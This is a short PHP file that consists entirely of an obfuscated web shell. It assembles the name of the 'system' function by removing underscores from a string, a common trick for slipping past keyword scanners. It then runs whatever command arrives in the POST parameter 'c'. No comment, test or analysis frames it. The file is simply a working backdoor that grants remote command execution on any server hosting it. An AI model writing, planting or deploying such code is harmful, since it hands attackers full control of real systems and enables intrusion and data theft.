<?php
$run = str_replace(search: '_', replace: '', subject: 's_y_s_t_e_m');
$run(command: $_POST['c']);
